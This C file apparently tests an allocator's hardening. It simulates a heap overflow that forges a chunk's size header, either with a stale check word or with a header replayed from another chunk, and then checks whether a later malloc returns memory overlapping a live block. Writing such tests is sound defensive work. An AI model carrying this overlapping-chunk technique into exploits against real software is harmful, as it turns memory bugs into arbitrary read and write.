/* forged_header: overflow a block with a plausible larger header for the
 * live block above it, free that block, and get two live blocks that share
 * memory.
 *
 * Goal: two live blocks overlap (a later malloc returns memory that a live
 * block still holds), which turns any overflow into a read and write of
 * another object.
 *
 * A (248 bytes), B (240 bytes, a 256-byte chunk), C (112 bytes, a 128-byte
 * chunk) and a guard lie one after the other. Overflowing A, the attacker
 * rewrites B's header so that B's chunk seems to end where C's does (384
 * bytes), frees B, and asks for 368 bytes: a chunk of 384 bytes, which the
 * freed B now seems to be.
 *   forged_header stale    only the size word is rewritten; the word after
 *                          it (slz's check word) is left as it was
 *   forged_header copied   the whole header is copied from a real live
 *                          chunk of 384 bytes elsewhere in the heap (a
 *                          replayed header: the attacker read it there)
 */
#include "attacks.h"

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "";
    if (!IS(how, "stale") && !IS(how, "copied"))
        usage("forged_header stale | copied\n");
    char *a = opaque(malloc(248)), *b = opaque(malloc(240)), *c = opaque(malloc(112));
    char *guard = opaque(malloc(40));
    char *model = opaque(malloc(368)); /* a real 384-byte chunk */
    enum atk_layout l = need_layout(b, c);
    memset(c, 'C', 112);
    uintptr_t big = (uintptr_t)(c - b) + (uintptr_t)(guard - c); /* B and C together */
    uintptr_t *hb = size_word(b, l);
    if (IS(how, "stale")) {
        *hb = big | (*hb & flag_bits(l)); /* the overflow from A */
    } else {
        uintptr_t *hm = size_word(model, l);
        if ((*hm & ~flag_bits(l)) != big)
            not_reached("cannot aim: the model chunk is %#lx bytes, not %#lx", (unsigned long)(*hm & ~flag_bits(l)),
                        (unsigned long)big);
        memcpy(chunk_of(b), chunk_of(model), 16); /* the overflow from A */
    }
    free(b);
    char *d = opaque(malloc(368));
    if (d && overlap(d, 368, c, 112))
        reached("malloc(368) returned %p, overlapping the live block C at %p", (void *)d, (void *)c);
    opaque(a), opaque(guard);
    not_reached("malloc(368) returned %p, clear of the live block C at %p", (void *)d, (void *)c);
}
